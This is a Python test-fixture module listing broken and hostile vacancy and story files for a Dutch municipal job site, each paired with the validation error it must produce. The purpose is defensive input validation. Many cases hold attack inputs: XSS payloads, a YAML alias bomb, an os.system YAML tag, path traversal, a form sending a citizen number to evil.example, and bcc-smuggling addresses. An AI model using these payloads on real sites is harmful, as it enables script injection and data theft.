"""The corpus of broken and hostile content files, as data: each case is one vacancy or story file
with one mistake (or one attack), and the message an author must get for it.

A case is written into a copy of the example site as `vacancies/zz-<name>.md` or
`stories/zz-<name>.md`; the tests check that `make check` and the build report exactly the
expected problems for that file, at the expected line, and nothing else. Add a case here when you
add a field or find a new way to break one.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

VACANCY = """---
title: Jurist Sociaal Domein
summary: Je adviseert over de Participatiewet en de Wmo, en je schrijft heldere besluiten.
department: Sociaal Domein
location: Stadskantoor, Lindewaard
hours: 32-36
scale: 10
published: 2026-11-16
closes: 2026-12-21
apply: https://sollicitatie.lindewaard.example/vacature/jurist-sociaal-domein-{name}
send: [cv, letter]
contact:
  name: Ilse Kramer
  role: teamleider Juridische Zaken
  phone: 0570 75 12 40
process: standaard
---

## Wat ga je doen

Je adviseert collega's over bezwaren en schrijft besluiten die inwoners begrijpen.
"""

STORY = """---
title: Een dag aan de balie
name: Noor Veldman
role: Medewerker Burgerzaken
department: Dienstverlening
summary: Noor helpt inwoners aan een paspoort en legt uit wat er nodig is.
quote: Iedereen die binnenkomt, gaat met een antwoord weer naar huis.
photo: img/wei-chen.jpg
photo_alt: Illustratie van een medewerker achter een balie.
published: 2026-11-09
consent_until: 2028-11-09
---

Noor werkt sinds drie jaar bij Burgerzaken.
"""


@dataclass(frozen=True)
class Expect:
    """A problem the author must see: the field, words of the message, and where (a text on the line)."""

    field: str
    words: str
    at: str | None = None  # text on the expected line; default: the field's own line

    def line(self, text: str) -> int:
        lines = text.split("\n")
        if self.at is not None:
            return next(i for i, line in enumerate(lines, 1) if self.at in line)
        if self.field in ("", "YAML", "body"):
            return 1
        head, _, rest = self.field.partition(".")
        top = next((i for i, line in enumerate(lines, 1) if line.startswith(f"{head}:")), 1)
        if not rest:
            return top
        key = rest.split(".")[0]
        return next(
            (i for i, line in enumerate(lines[top:], top + 1) if line.strip().startswith(f"{key}:")),
            top,
        )


@dataclass(frozen=True)
class Case:
    """One broken file: a change to the base vacancy or story and the problems it must give."""

    name: str
    kind: str = "vacancy"  # or "story"
    fields: dict[str, str | None] = field(default_factory=dict)  # field -> YAML text (None: remove the field)
    body: str | None = None
    raw: Callable[[str], str] | None = None  # a last change to the whole text (characters YAML cannot hold)
    expect: tuple[Expect, ...] = ()
    encoding: str = "utf-8"
    bytes_: bytes | None = None  # the file's exact bytes, for files that are no text at all

    @property
    def folder(self) -> str:
        return "vacancies" if self.kind == "vacancy" else "stories"

    @property
    def path(self) -> str:
        return f"{self.folder}/zz-{self.name}.md"

    def text(self) -> str:
        text = (VACANCY if self.kind == "vacancy" else STORY).replace("{name}", self.name)
        for key, value in self.fields.items():
            text = set_field(text, key, value)
        if self.body is not None:
            head, _, _ = text.partition("\n---\n")
            text = f"{head}\n---\n{self.body}"
        if self.raw is not None:
            text = self.raw(text)
        return text

    def write(self, root: Path) -> Path:
        path = root / self.path
        if self.bytes_ is not None:
            path.write_bytes(self.bytes_)
        else:
            path.write_bytes(self.text().encode(self.encoding))
        return path


def set_field(text: str, key: str, value: str | None) -> str:
    """The front matter with `key` (and its indented lines) replaced by `key: value`, or removed."""
    lines = text.split("\n")
    end = lines.index("---", 1)
    start = next((i for i in range(1, end) if lines[i].startswith(f"{key}:")), None)
    new = [] if value is None else f"{key}: {value}".split("\n")
    if start is None:
        lines[end:end] = new
    else:
        stop = start + 1
        while stop < end and lines[stop].startswith("  "):
            stop += 1
        lines[start:stop] = new
    return "\n".join(lines)


def swap(old: str, new: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)

    return change


def E(field: str, words: str, at: str | None = None) -> tuple[Expect, ...]:
    return (Expect(field, words, at),)


ALIAS_BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
)
DEEP = "[" * 5000 + "]" * 5000
LONG = "x" * 400
WORD_1252 = "Wij zoeken een collega die affiniteit heeft met caf\xe9s en cr\xe8che's."

CASES: tuple[Case, ...] = (
    # Impossible and unreasonable dates.
    Case("date-feb-30", fields={"closes": "2027-02-30"}, expect=E("closes", "30 februari 2027 bestaat niet")),
    Case("date-feb-29", fields={"published": "2026-02-29"}, expect=E("published", "29 februari 2026 bestaat niet")),
    Case("date-month-13", fields={"closes": "2026-13-01"}, expect=E("closes", "geen maand 13")),
    Case("date-day-32", fields={"closes": "2026-12-32"}, expect=E("closes", "32 december 2026 bestaat niet")),
    Case("date-far-future", fields={"closes": "9999-12-31"}, expect=E("closes", "9999")),
    Case("date-year-one", fields={"published": "0001-01-01"}, expect=E("published", "0001")),
    Case("date-dutch-order", fields={"closes": "15-01-2027"}, expect=E("closes", "YYYY-MM-DD")),
    Case("date-in-words", fields={"closes": "15 januari 2027"}, expect=E("closes", "YYYY-MM-DD")),
    Case("date-as-list", fields={"closes": "[2027-01-15]"}, expect=E("closes", "YYYY-MM-DD")),
    Case("date-empty", fields={"published": ""}, expect=E("published", "is leeg")),
    Case(
        "date-process-impossible",
        fields={"process_dates": "\n  gesprek1: 2027-02-30"},
        expect=E("process_dates.gesprek1", "30 februari 2027 bestaat niet"),
    ),
    Case(
        "date-process-squeezed",
        fields={"process_dates": "\n  gesprek1: 2026-12-22"},
        expect=E("process_dates.gesprek1", "laat geen werkdag over voor 'Selectie van de brieven'"),
    ),
    Case("date-process-list", fields={"process_dates": "[2027-12-20]"}, expect=E("process_dates", "blok")),
    Case(
        "date-consent-impossible",
        kind="story",
        fields={"consent_until": "2026-02-29"},
        expect=E("consent_until", "29 februari 2026 bestaat niet"),
    ),
    # Scale and salary.
    Case("scale-empty", fields={"scale": ""}, expect=E("scale", "is leeg")),
    Case("scale-empty-list", fields={"scale": "[]"}, expect=E("scale", "is leeg")),
    Case("scale-mapping", fields={"scale": "{schaal: 10}"}, expect=E("scale", "schaal uit de salaristabel")),
    Case("scale-unknown", fields={"scale": "25"}, expect=E("scale", "schaal '25'")),
    Case(
        "salary-nan",
        fields={"scale": None, "salary": "{min: .nan, max: 4000}"},
        expect=E("salary.min", "bedrag", at="salary:"),
    ),
    Case(
        "salary-inf",
        fields={"scale": None, "salary": "{min: 3000, max: .inf}"},
        expect=E("salary.max", "bedrag", at="salary:"),
    ),
    Case(
        "salary-huge",
        fields={"scale": None, "salary": "{min: 3000, max: 1.0e+300}"},
        expect=E("salary.max", "onwaarschijnlijk hoog", at="salary:"),
    ),
    Case(
        "salary-text",
        fields={"scale": None, "salary": "{min: drieduizend, max: 4000}"},
        expect=E("salary.min", "bedrag", at="salary:"),
    ),
    Case(
        "salary-min-above-max",
        fields={"scale": None, "salary": "{min: 4000, max: 3000}"},
        expect=E("salary.max", "lager dan het minimum", at="salary:"),
    ),
    Case(
        "salary-thousands-dot",
        fields={"scale": None, "salary": "{min: 3.496, max: 5.535}"},
        expect=E("salary.min", "onwaarschijnlijk laag", at="salary:"),
    ),
    Case(
        "salary-negative",
        fields={"scale": None, "salary": "{min: -100, max: 3000}"},
        expect=E("salary.min", "bedrag", at="salary:"),
    ),
    Case("salary-scalar", fields={"scale": None, "salary": "3000"}, expect=E("salary", "{min: 3000")),
    Case(
        "salary-period",
        fields={"scale": None, "salary": "{min: 3000, max: 4000, period: week}"},
        expect=E("salary.period", "'week'", at="salary:"),
    ),
    Case(
        "salary-currency",
        fields={"scale": None, "salary": "{min: 3000, max: 4000, currency: euro}"},
        expect=E("salary.currency", "valutacode", at="salary:"),
    ),
    Case(
        "salary-unknown-key",
        fields={"scale": None, "salary": "{minimum: 3000, max: 4000}"},
        expect=E("salary.minimum", "'min'", at="salary:"),
    ),
    Case(
        "salary-and-scale",
        fields={"salary": "{min: 3000, max: 4000}"},
        expect=E("salary", "niet allebei"),
    ),
    Case("salary-missing", fields={"scale": None}, expect=E("scale", "bij een vacature hoort een salaris")),
    # Hours.
    Case("hours-zero", fields={"hours": "0"}, expect=E("hours", "aantal uren")),
    Case("hours-too-many", fields={"hours": "100"}, expect=E("hours", "aantal uren")),
    Case("hours-reversed", fields={"hours": "36-32"}, expect=E("hours", "aantal uren")),
    Case("hours-words", fields={"hours": "fulltime"}, expect=E("hours", "aantal uren")),
    Case("hours-nan", fields={"hours": ".nan"}, expect=E("hours", "aantal uren")),
    Case("hours-list", fields={"hours": "[32, 36]"}, expect=E("hours", "aantal uren")),
    # Text pasted from Word, and values of the wrong type.
    Case("title-bell", raw=swap("title: Jurist", "title: Jurist\x07"), expect=E("title", "U+0007")),
    Case("title-invisible-only", fields={"title": '"\u200b\u200b\u2060"'}, expect=E("title", "onzichtbare")),
    Case(
        "title-bidi-override",
        raw=swap("title: Jurist", "title: \u202eJurist"),
        expect=E("title", "U+202E"),
    ),
    Case(
        "summary-replacement-char",
        raw=swap("heldere besluiten", "heldere besluiten \ufffd"),
        expect=E("summary", "U+FFFD"),
    ),
    Case(
        "body-null",
        body="\n## Wat ga je doen\n\nJe schrijft\x00 besluiten.\n",
        expect=E("body", "U+0000", at="Je schrijft"),
    ),
    Case(
        "body-escape-char",
        body="\n## Wat ga je doen\n\nJe schrijft \x1b[31mrode\x1b[0m besluiten.\n",
        expect=E("body", "U+001B", at="rode"),
    ),
    # Placeholders of `make new-vacancy` left in: never online.
    Case("summary-placeholder", fields={"summary": "'[[Eén of twee zinnen]]'"}, expect=E("summary", "niet ingevuld")),
    Case(
        "body-placeholder",
        body="\n## Wat ga je doen\n\n[[Beschrijf het werk.]]\n",
        expect=E("body", "nog niet ingevuld", at="[[Beschrijf"),
    ),
    Case(
        "photo-alt-placeholder",
        kind="story",
        fields={"photo_alt": "'Foto van [[naam]]'"},
        expect=E("photo_alt", "'[[naam]]'"),
    ),
    Case("title-list", fields={"title": "[Jurist, Adviseur]"}, expect=E("title", "geen lijst")),
    Case("title-html", fields={"title": "'<b>Jurist</b> Sociaal Domein'"}, expect=E("title", "'<b>'")),
    Case("summary-script", fields={"summary": "'Kom <script>alert(1)</script> werken'"}, expect=E("summary", "HTML")),
    Case(
        "quote-image",
        kind="story",
        fields={"quote": "'Mooi werk <img src=x onerror=alert(1)>'"},
        expect=E("quote", "HTML"),
    ),
    Case("title-mapping", fields={"title": "{nl: Jurist}"}, expect=E("title", "moet tekst zijn")),
    Case("title-bool", fields={"title": "yes"}, expect=E("title", "moet tekst zijn")),
    Case("title-too-long", fields={"title": LONG}, expect=E("title", "400 tekens")),
    Case("department-empty", fields={"department": '""'}, expect=E("department", "is leeg")),
    Case("department-invisible", fields={"department": '"\u00ad\u200b"'}, expect=E("department", "onzichtbare")),
    Case("location-null", fields={"location": "null"}, expect=E("location", "is leeg")),
    Case(
        "contact-name-list",
        fields={"contact": "\n  name: [Sanne, Piet]\n  role: teamleider\n  phone: 0570 75 12 40"},
        expect=E("contact.name", "geen lijst"),
    ),
    Case(
        "contact-as-text",
        fields={"contact": "Sanne de Wit, 0570 75 12 40"},
        expect=E("contact", "blok met name, role"),
    ),
    Case(
        "contact-unknown-part",
        fields={"contact": "\n  name: Sanne\n  role: teamleider\n  telefoon: 0570 75 12 40"},
        expect=E("contact.telefoon", "'phone'"),
    ),
    Case(
        "contact-phone-words",
        fields={"contact": "\n  name: Sanne\n  role: teamleider\n  phone: bel me maar"},
        expect=E("contact.phone", "telefoonnummer"),
    ),
    Case(
        "contact-email-half",
        fields={"contact": "\n  name: Sanne\n  role: teamleider\n  email: sanne@"},
        expect=E("contact.email", "e-mailadres"),
    ),
    Case(
        "contact-unreachable",
        fields={"contact": "\n  name: Sanne\n  role: teamleider"},
        expect=E("contact", "telefoonnummer of een e-mailadres"),
    ),
    Case(
        "contact-role-empty",
        fields={"contact": "\n  name: Sanne\n  role:\n  phone: 0570 75 12 40"},
        expect=E("contact.role", "is leeg"),
    ),
    Case("social-empty", fields={"social": "\n  linkedin:"}, expect=E("social.linkedin", "is leeg")),
    Case("social-list", fields={"social": "\n  linkedin: [a, b]"}, expect=E("social.linkedin", "geen lijst")),
    Case("social-as-text", fields={"social": "Kom bij ons werken!"}, expect=E("social", "per kanaal")),
    Case("social-unknown-channel", fields={"social": "\n  tiktok: Kom!"}, expect=E("social.tiktok", "'tiktok'")),
    Case("social-too-long", fields={"social": f"\n  linkedin: {'woord ' * 50}"}, expect=E("social.linkedin", "200")),
    Case("apply-javascript", fields={"apply": "javascript:alert(1)"}, expect=E("apply", "webadres")),
    Case(
        "apply-quote", fields={"apply": "'https://example.org/x\"onmouseover=alert(1)'"}, expect=E("apply", "webadres")
    ),
    Case("apply-list", fields={"apply": "[https://example.org/a]"}, expect=E("apply", "geen lijst")),
    Case("apply-half-email", fields={"apply": "hr@"}, expect=E("apply", "webadres")),
    # Numbers that are none, and addresses that hide more than one address (issue 23).
    *(
        Case(
            f"contact-phone-{name}",
            fields={"contact": f"\n  name: Sanne\n  role: teamleider\n  phone: '{value}'"},
            expect=E("contact.phone", "telefoonnummer dat je kunt bellen"),
        )
        for name, value in (("see-website", "zie website"), ("dashes", "------"), ("zeros", "0000000"))
    ),
    *(
        Case(
            f"contact-email-{name}",
            fields={"contact": f"\n  name: Sanne\n  role: teamleider\n  email: '{value}'"},
            expect=E("contact.email", "e-mailadres"),
        )
        for name, value in (
            ("encoded-at", "sanne%40lindewaard.example@evil.example"),
            ("bcc", "sanne@lindewaard.example?bcc=spy@evil.example"),
            ("two", "sanne@lindewaard.example,spy@evil.example"),
        )
    ),
    Case(
        "apply-own-host-no-page",  # the example's old /solliciteren/<vacancy>: a 404 once deployed
        fields={"apply": "https://werkenbij.lindewaard.example/solliciteren/jurist-sociaal-domein"},
        expect=E("apply", "maakt daar geen pagina"),
    ),
    Case(
        "apply-mailto-bcc",
        fields={"apply": "'mailto:werkenbij@lindewaard.example?subject=Sollicitatie&bcc=spy@evil.example'"},
        expect=E("apply", "geen andere ontvangers"),
    ),
    Case(
        "apply-mailto-encoded",
        fields={"apply": "'mailto:werkenbij%40lindewaard.example'"},
        expect=E("apply", "geen gecodeerde tekens"),
    ),
    Case("id-path", fields={"id": "../../etc/passwd"}, expect=E("id", "als id")),
    Case("id-list", fields={"id": "[a, b]"}, expect=E("id", "geen lijst")),
    Case("employment-unknown", fields={"employment": "fulltime"}, expect=E("employment", "'fulltime'")),
    Case("employment-list", fields={"employment": "[permanent]"}, expect=E("employment", "geen lijst")),
    Case("remote-yes", fields={"remote": "ja"}, expect=E("remote", "'ja'")),
    Case("send-unknown", fields={"send": "[cv, brief]"}, expect=E("send", "'brief' kan hier niet")),
    Case("send-block", fields={"send": "\n  cv: ja"}, expect=E("send", "als lijst")),
    Case("send-nested", fields={"send": "[[cv, letter]]"}, expect=E("send", "geen lijst")),
    Case("applicants-unknown", fields={"applicants": "intern"}, expect=E("applicants", "'intern'")),
    Case("reference-long", fields={"reference": "'" + "1" * 41 + "'"}, expect=E("reference", "korter dan 40 tekens")),
    Case("reference-list", fields={"reference": "[2026, 142]"}, expect=E("reference", "geen lijst")),
    Case("change-note-long", fields={"change_note": LONG}, expect=E("change_note", "korter dan 300 tekens")),
    Case("change-note-list", fields={"change_note": "[verlengd, meer salaris]"}, expect=E("change_note", "geen lijst")),
    Case("change-note-script", fields={"change_note": "'Nu <script>x</script>'"}, expect=E("change_note", "HTML")),
    Case("applicants-list", fields={"applicants": "[everyone]"}, expect=E("applicants", "geen lijst")),
    Case("channels-unknown", fields={"channels": "[tiktok]"}, expect=E("channels", "'tiktok'")),
    Case("channels-mapping", fields={"channels": "{linkedin: true}"}, expect=E("channels", "lijst")),
    Case("stories-unknown", fields={"stories": "[bestaat-niet]"}, expect=E("stories", "'bestaat-niet'")),
    # accept: a reason per rule of the text check
    Case("accept-list", fields={"accept": "[age]"}, expect=E("accept", "schrijf accept als een blok")),
    Case(
        "accept-unknown-rule",
        fields={"accept": '{leeftijd: "Positieve actie voor deze groep."}'},
        expect=E("accept.leeftijd", "'leeftijd'"),
    ),
    Case("accept-no-reason", fields={"accept": '{age: ""}'}, expect=E("accept.age", "geef de reden")),
    Case("accept-one-word", fields={"accept": "{gender: ja}"}, expect=E("accept.gender", "geef de reden")),
    Case("accept-reason-list", fields={"accept": "{age: [a, b]}"}, expect=E("accept.age", "")),
    Case("tags-mapping", fields={"tags": "[{a: b}]"}, expect=E("tags", "lijst")),
    Case("tag-too-long", fields={"tags": f"[{LONG}]"}, expect=E("tags", "400 tekens")),
    Case("status-unknown", fields={"status": "closed"}, expect=E("status", "'closed'")),
    Case("process-unknown", fields={"process": "snelprocedure"}, expect=E("process", "'snelprocedure'")),
    Case("process-list", fields={"process": "[standaard]"}, expect=E("process", "geen lijst")),
    # The file's shape.
    Case("unknown-field", fields={"salaris": "3000"}, expect=E("salaris", "'salary'")),
    Case(
        "duplicate-field",
        raw=swap("location:", "title: Nog een titel\nlocation:"),
        expect=E("title", "twee keer", at="Nog een titel"),
    ),
    Case("number-as-field-name", fields={"1": "een"}, expect=E("1", "onbekend")),
    Case(
        "list-as-field-name",
        raw=swap("location:", "? [a, b]\n: x\nlocation:"),
        expect=E("YAML", "veldnaam", at="? [a, b]"),
    ),
    Case(
        "front-matter-list",
        raw=lambda t: "---\n- title\n- summary\n---\n\nTekst.\n",
        expect=E("YAML", "veld: waarde", at="- title"),
    ),
    Case("no-front-matter", raw=lambda t: "# Jurist\n\nTekst zonder velden.\n", expect=E("", "drie streepjes")),
    Case("unclosed-front-matter", raw=lambda t: t.replace("\n---\n\n##", "\n\n##"), expect=E("", "niet afgesloten")),
    Case("empty-file", bytes_=b"", expect=E("", "drie streepjes")),
    Case(
        "only-dashes",
        raw=lambda t: "---\n---\n",
        expect=(
            *(
                Expect(f, "ontbreekt", at="---")
                for f in ("title", "summary", "department", "location", "hours", "published", "closes", "apply")
            ),
            Expect("contact", "ontbreekt", at="---"),
            Expect("process", "ontbreekt", at="---"),
            Expect("scale", "bij een vacature hoort een salaris", at="---"),
        ),
    ),
    Case("windows-1252", raw=lambda t: t + WORD_1252 + "\n", encoding="cp1252", expect=E("", "Windows", at="caf")),
    Case("utf-16", encoding="utf-16", expect=E("", "UTF-16")),
    Case("yaml-tab-indent", fields={"contact": "\n\tname: Sanne"}, expect=E("YAML", "geen geldige YAML", at="\tname")),
    Case(
        "yaml-alias-bomb",
        raw=swap("location:", ALIAS_BOMB + "\nlocation:"),
        expect=E("YAML", "verwijzingen", at="e: &e"),
    ),
    Case("yaml-deep-nesting", fields={"tags": DEEP}, expect=E("YAML", "diep", at="tags:")),
    Case(
        "yaml-python-tag",
        fields={"title": "!!python/object/apply:os.system [echo gehackt]"},
        expect=E("YAML", "geen geldige YAML", at="title:"),
    ),
    Case(
        "second-front-matter",
        body="---\ntemplate: main.html\nrobots: noindex\n---\n\nTekst.\n",
        expect=E("body", "tweede blok", at="template: main.html"),
    ),
    # The Markdown body: no scripts, no event handlers, nothing loaded from other hosts.
    Case("body-script", body="\nTekst.\n\n<script>alert(1)</script>\n", expect=E("body", "<script>", at="<script>")),
    Case(
        "body-remote-image",
        body="\nTekst.\n\n![pixel](https://tracker.example/p.gif)\n",
        expect=E("body", "tracker.example", at="![pixel]"),
    ),
    Case(
        "body-remote-image-html",
        body='\nTekst.\n\n<img src="//tracker.example/p.gif" alt="">\n',
        expect=E("body", "tracker.example", at="<img"),
    ),
    Case(
        "body-javascript-link",
        body="\nTekst met een [link](javascript:alert(1)).\n",
        expect=E("body", "javascript:", at="[link]"),
    ),
    Case(
        "body-attr-list-handler",
        body='\nTekst.\n\n## Kop {: onclick="alert(1)" }\n',
        expect=E("body", "onclick", at="onclick"),
    ),
    Case(
        "body-attr-list-link",
        body='\nLees [meer](https://example.org/){: onmouseover="alert(1)" } over ons.\n',
        expect=E("body", "onmouseover", at="onmouseover"),
    ),
    Case(
        "body-html-handler",
        body='\nTekst.\n\n<p onmouseover="alert(1)">Beweeg hier</p>\n',
        expect=E("body", "onmouseover", at="onmouseover"),
    ),
    Case(
        "body-mermaid",
        body='\nTekst.\n\n<pre class="mermaid">graph TD; A-->B</pre>\n',
        expect=E("body", "mermaid", at='class="mermaid"'),
    ),
    Case(
        "body-iframe",
        body='\nTekst.\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n',
        expect=E("body", "<iframe>", at="<iframe"),
    ),
    Case(
        "body-form",
        body='\nTekst.\n\n<form action="https://evil.example/"><input name="bsn"></form>\n',
        expect=E("body", "<form>", at="<form"),
    ),
    Case(
        "body-style", body="\nTekst.\n\n<style>body{display:none}</style>\n", expect=E("body", "<style>", at="<style>")
    ),
    Case(
        "body-svg-onload",
        body='\nTekst.\n\n<svg onload="alert(1)"><circle r="4"/></svg>\n',
        expect=E("body", "<svg>", at="<svg"),
    ),
    Case(
        "body-style-url",
        body='\nTekst.\n\n<p style="background:url(https://tracker.example/p.gif)">Hoi</p>\n',
        expect=E("body", "tracker.example", at="background"),
    ),
    Case(
        "body-data-link",
        body="\nTekst met een [link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).\n",
        expect=E("body", "data:", at="[link]"),
    ),
    # Stories: photos and videos.
    Case("photo-missing", kind="story", fields={"photo": "img/bestaat-niet.jpg"}, expect=E("photo", "staat niet in")),
    Case("photo-wrong-type", kind="story", fields={"photo": "img/portret.gif"}, expect=E("photo", ".jpg")),
    Case("photo-outside", kind="story", fields={"photo": "../mkdocs.jpg"}, expect=E("photo", "map")),
    Case("photo-absolute", kind="story", fields={"photo": "/etc/passwd.jpg"}, expect=E("photo", "map")),
    Case("photo-list", kind="story", fields={"photo": "[img/wei-chen.jpg]"}, expect=E("photo", "geen lijst")),
    Case("photo-alt-empty", kind="story", fields={"photo_alt": ""}, expect=E("photo_alt", "is leeg")),
    Case("video-javascript", kind="story", fields={"video": "javascript:alert(1)"}, expect=E("video", "geen video")),
    Case(
        "consent-before-published",
        kind="story",
        fields={"consent_until": "2026-01-01"},
        expect=E("consent_until", "toestemming"),
    ),
    Case("story-name-list", kind="story", fields={"name": "[Noor, Piet]"}, expect=E("name", "geen lijst")),
)


def by_file(problems: list[str]) -> dict[str, list[str]]:
    """Reported lines grouped by the file they name."""
    result: dict[str, list[str]] = {}
    for line in problems:
        match = re.match(r"^(\S+?\.md)(?::\d+)?: ", line)
        if match:
            result.setdefault(match.group(1), []).append(line)
    return result
